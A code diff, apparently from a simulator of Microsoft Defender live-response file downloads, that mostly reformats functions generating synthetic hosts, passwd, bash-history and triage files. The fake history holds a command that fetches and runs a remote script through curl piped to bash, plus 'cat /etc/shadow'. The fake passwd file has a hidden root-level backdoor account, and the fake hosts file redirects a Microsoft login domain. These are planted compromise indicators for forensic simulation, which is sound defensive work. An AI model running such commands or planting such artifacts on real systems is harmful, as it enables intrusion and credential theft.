@@ -18,25 +18,45 @@ import io
 import random
 import re
 import zipfile
+from collections.abc import Callable, Iterator
 from dataclasses import dataclass
-from typing import Callable, Iterator
 
 from .script_output import ESC, _rng
 from .tenant import MachineRec
 
-__all__ = ["DOWNLOADS_DIR_WIN", "DOWNLOADS_DIR_POSIX", "FileRecipe", "resolve_file", "file_bytes", "BENCH_BLOCK",
-           "bench_stream", "gzip_stream"]
+__all__ = [
+    "BENCH_BLOCK",
+    "DOWNLOADS_DIR_POSIX",
+    "DOWNLOADS_DIR_WIN",
+    "FileRecipe",
+    "bench_stream",
+    "file_bytes",
+    "gzip_stream",
+    "resolve_file",
+]
 
 DOWNLOADS_DIR_WIN = "C:\\ProgramData\\Microsoft\\Windows Defender Advanced Threat Protection\\Downloads\\"
 DOWNLOADS_DIR_POSIX = "/var/opt/microsoft/mdatp/live_response/downloads/"
 
 
 _ARCHIVE_EXT = (".zip", ".7z", ".rar", ".dmp", ".gz", ".tgz", ".tar", ".cab")
-_WIN_ROOTS = ("c:\\users\\", "c:\\windows\\", "c:\\programdata\\", "c:\\program files\\", "c:\\program files (x86)\\",
-              "c:\\temp\\", "c:\\inetpub\\")
+_WIN_ROOTS = (
+    "c:\\users\\",
+    "c:\\windows\\",
+    "c:\\programdata\\",
+    "c:\\program files\\",
+    "c:\\program files (x86)\\",
+    "c:\\temp\\",
+    "c:\\inetpub\\",
+)
 _NIX_ROOTS = ("/etc/", "/var/", "/home/", "/users/", "/tmp/", "/opt/", "/library/", "/usr/", "/root/", "/private/")
-_LOCKED = {"c:\\windows\\system32\\config\\sam", "c:\\windows\\system32\\config\\system",
-           "c:\\windows\\system32\\config\\security", "c:\\pagefile.sys", "c:\\hiberfil.sys"}
+_LOCKED = {
+    "c:\\windows\\system32\\config\\sam",
+    "c:\\windows\\system32\\config\\system",
+    "c:\\windows\\system32\\config\\security",
+    "c:\\pagefile.sys",
+    "c:\\hiberfil.sys",
+}
 _BENCH = re.compile(r"^(?:[a-z]:\\bench\\|/bench/)(\d+)(b|kib|mib|gib)\.bin$", re.I)
 _KNOWN_WIN = {
     "c:\\windows\\system32\\drivers\\etc\\hosts": "hosts",
@@ -48,8 +68,15 @@ _KNOWN_WIN = {
     "c:\\windows\\temp\\mpcmdrun.log": "log",
     "c:\\windows\\appcompat\\programs\\amcache.hve": "bin",
 }
-_KNOWN_NIX = {"/etc/passwd": "passwd", "/etc/hosts": "etchosts", "/var/log/auth.log": "log", "/var/log/syslog": "log",
-              "/etc/os-release": "osrelease", "/root/.bash_history": "history", "/var/log/system.log": "log"}
+_KNOWN_NIX = {
+    "/etc/passwd": "passwd",
+    "/etc/hosts": "etchosts",
+    "/var/log/auth.log": "log",
+    "/var/log/syslog": "log",
+    "/etc/os-release": "osrelease",
+    "/root/.bash_history": "history",
+    "/var/log/system.log": "log",
+}
 
 
 @dataclass(frozen=True)
@@ -67,10 +94,21 @@ def _is_windows_path(p: str) -> bool:
 
 def _size_for(kind: str, key: str) -> int:
     h = int(hashlib.sha1(key.encode()).hexdigest()[:8], 16)
-    return {"hosts": 824, "passwd": 1900, "etchosts": 220, "osrelease": 380, "history": 2400 + h % 4000,
-            "evtx": 1_048_576 * (1 + h % 4), "pe": 180_000 + h % 400_000, "bin": 262_144 + h % 1_000_000,
-            "log": 20_000 + h % 200_000, "text": 1_000 + h % 60_000, "dmp": 8 * 1_048_576,
-            "triage": 0, "generic": 2_000 + h % 20_000}.get(kind, 4096)
+    return {
+        "hosts": 824,
+        "passwd": 1900,
+        "etchosts": 220,
+        "osrelease": 380,
+        "history": 2400 + h % 4000,
+        "evtx": 1_048_576 * (1 + h % 4),
+        "pe": 180_000 + h % 400_000,
+        "bin": 262_144 + h % 1_000_000,
+        "log": 20_000 + h % 200_000,
+        "text": 1_000 + h % 60_000,
+        "dmp": 8 * 1_048_576,
+        "triage": 0,
+        "generic": 2_000 + h % 20_000,
+    }.get(kind, 4096)
 
 
 def resolve_file(m: MachineRec, path: str) -> FileRecipe | str:
@@ -84,7 +122,7 @@ def resolve_file(m: MachineRec, path: str) -> FileRecipe | str:
         return f"File not found: {path}"
     b = _BENCH.match(path)
     if b:
-        mult = {"b": 1, "kib": 1024, "mib": 1024 ** 2, "gib": 1024 ** 3}[b.group(2).lower()]
+        mult = {"b": 1, "kib": 1024, "mib": 1024**2, "gib": 1024**3}[b.group(2).lower()]
         return FileRecipe("bench", int(b.group(1)) * mult, m.id, key)
     for p, recipe in m.created_files.items():
         if (p.lower() if win else p) == key:
@@ -93,7 +131,15 @@ def resolve_file(m: MachineRec, path: str) -> FileRecipe | str:
                 return FileRecipe(kind, len(recipe[1]), m.id, key, data=recipe[1])
             size = _size_for(kind, m.id + key)
             return FileRecipe(kind, size, m.id, key)
-    if path.endswith(("\\", "/")) or key in ("c:\\windows", "c:\\users", "c:\\temp", "/etc", "/var/log", "/tmp", "/home"):
+    if path.endswith(("\\", "/")) or key in (
+        "c:\\windows",
+        "c:\\users",
+        "c:\\temp",
+        "/etc",
+        "/var/log",
+        "/tmp",
+        "/home",
+    ):
         return f"The path is a directory, not a file: {path}"
     if win and key in _LOCKED:
         return f"The process cannot access the file '{path}' because it is being used by another process."
@@ -112,8 +158,18 @@ def resolve_file(m: MachineRec, path: str) -> FileRecipe | str:
     if not has_ext and not (not win and (low.startswith("/etc/") or low.startswith("/var/log/"))):
         return f"File not found: {path}"
     ext = name.rsplit(".", 1)[-1] if has_ext else ""
-    kind = {"exe": "pe", "dll": "pe", "sys": "pe", "evtx": "evtx", "log": "log", "etl": "bin", "dat": "bin",
-            "hve": "bin", "pf": "bin", "db": "bin"}.get(ext, "text")
+    kind = {
+        "exe": "pe",
+        "dll": "pe",
+        "sys": "pe",
+        "evtx": "evtx",
+        "log": "log",
+        "etl": "bin",
+        "dat": "bin",
+        "hve": "bin",
+        "pf": "bin",
+        "db": "bin",
+    }.get(ext, "text")
     return FileRecipe(kind, _size_for(kind, m.id + key), m.id, key)
 
 
@@ -122,31 +178,56 @@ def file_bytes(r: FileRecipe, m: MachineRec | None = None) -> bytes:
     if r.data is not None:
         return r.data
     rng = _rng("file", r.machine_id, r.path)
-    host = (m.name.split(".")[0] if m else r.machine_id[:8])
+    host = m.name.split(".")[0] if m else r.machine_id[:8]
     if r.kind == "hosts":
-        return (b"# Copyright (c) 1993-2009 Microsoft Corp.\r\n#\r\n# This is a sample HOSTS file used by Microsoft TCP/IP for Windows.\r\n"
-                b"#\r\n" + b"#      102.54.94.97     rhino.acme.com          # source server\r\n" * 10 +
-                b"127.0.0.1       localhost\r\n::1             localhost\r\n10.66.6.6       login.microsoftonline.com  # ???\r\n")
+        return (
+            b"# Copyright (c) 1993-2009 Microsoft Corp.\r\n#\r\n# This is a sample HOSTS file used by Microsoft TCP/IP for Windows.\r\n"
+            b"#\r\n"
+            + b"#      102.54.94.97     rhino.acme.com          # source server\r\n" * 10
+            + b"127.0.0.1       localhost\r\n::1             localhost\r\n10.66.6.6       login.microsoftonline.com  # ???\r\n"
+        )
     if r.kind == "passwd":
-        users = ["root:x:0:0:root:/root:/bin/bash", "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin",
-                 "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin", "sshd:x:110:65534::/run/sshd:/usr/sbin/nologin",
-                 "alice:x:1000:1000:Alice,,,:/home/alice:/bin/bash", "backup2:x:0:0::/tmp/.b:/bin/sh"]
+        users = [
+            "root:x:0:0:root:/root:/bin/bash",
+            "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin",
+            "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin",
+            "sshd:x:110:65534::/run/sshd:/usr/sbin/nologin",
+            "alice:x:1000:1000:Alice,,,:/home/alice:/bin/bash",
+            "backup2:x:0:0::/tmp/.b:/bin/sh",
+        ]
         return ("\n".join(users * 5) + "\n").encode()
     if r.kind == "etchosts":
         return f"127.0.0.1 localhost\n127.0.1.1 {host}\n::1 localhost ip6-localhost\n".encode()
     if r.kind == "osrelease":
         return b'PRETTY_NAME="Ubuntu 22.04.4 LTS"\nNAME="Ubuntu"\nVERSION_ID="22.04"\nID=ubuntu\n'
     if r.kind == "history":
-        cmds = ["ls -la", "sudo su -", "curl -s http://198.51.100.9/x.sh | bash", "history -c", "cat /etc/shadow",
-                f"echo -e '{ESC}[31mred{ESC}[0m'", "vim /etc/crontab", "systemctl restart nginx"]
+        cmds = [
+            "ls -la",
+            "sudo su -",
+            "curl -s http://198.51.100.9/x.sh | bash",
+            "history -c",
+            "cat /etc/shadow",
+            f"echo -e '{ESC}[31mred{ESC}[0m'",
+            "vim /etc/crontab",
+            "systemctl restart nginx",
+        ]
         return ("\n".join(rng.choice(cmds) for _ in range(r.size // 16)) + "\n").encode()
     if r.kind == "triage":
         buf = io.BytesIO()
         with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
-            for n in ["EventLogs/Security.evtx.txt", "Prefetch/list.txt", "Network/netstat.txt", "Users/logons.csv", "manifest.json"]:
+            for n in [
+                "EventLogs/Security.evtx.txt",
+                "Prefetch/list.txt",
+                "Network/netstat.txt",
+                "Users/logons.csv",
+                "manifest.json",
+            ]:
                 zi = zipfile.ZipInfo(n, date_time=(2024, 6, 2, 8, 0, 0))
-                z.writestr(zi, (f"{n} from {host}\n" + "".join(f"{rng.getrandbits(64):016x}\n" for _ in range(3000))).encode(),
-                           compress_type=zipfile.ZIP_DEFLATED)
+                z.writestr(
+                    zi,
+                    (f"{n} from {host}\n" + "".join(f"{rng.getrandbits(64):016x}\n" for _ in range(3000))).encode(),
+                    compress_type=zipfile.ZIP_DEFLATED,
+                )
         return buf.getvalue()
     if r.kind in ("text", "log", "generic"):
         lines = []
@@ -158,8 +239,12 @@ def file_bytes(r: FileRecipe, m: MachineRec | None = None) -> bytes:
             size += len(line)
             i += 1
         return "".join(lines).encode()[: r.size]
-    header = {"pe": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00", "evtx": b"ElfFile\x00",
-              "dmp": b"MDMP\x93\xa7\x00\x00", "bin": b"regf"}.get(r.kind, b"")
+    header = {
+        "pe": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00",
+        "evtx": b"ElfFile\x00",
+        "dmp": b"MDMP\x93\xa7\x00\x00",
+        "bin": b"regf",
+    }.get(r.kind, b"")
     body = rng.randbytes(min(r.size, 65536))
     # repeat one random block: cheap, deterministic, and gzip still has work to do
     reps = (r.size - len(header)) // len(body) + 1 if body else 0
@@ -199,6 +284,7 @@ def bench_stream(r: FileRecipe) -> tuple[int, Callable[[], Iterator[bytes]]]:
             yield member
         if tail:
             yield tail
+
     return length, chunks
 
 
